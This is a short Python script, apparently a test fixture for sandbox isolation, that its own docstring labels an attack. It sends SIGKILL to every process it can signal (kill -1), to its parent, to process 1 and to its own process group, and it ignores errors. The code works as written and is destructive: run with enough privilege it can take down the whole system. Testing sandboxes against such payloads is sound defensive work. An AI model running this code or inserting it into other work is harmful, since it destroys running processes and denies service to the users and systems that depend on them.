"""Attack: kill every process it can signal (kill -1), its parent, and process 1.
affects:
"""
import os
import signal

for _target in (-1, os.getppid(), 1, 0):
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError:
        pass
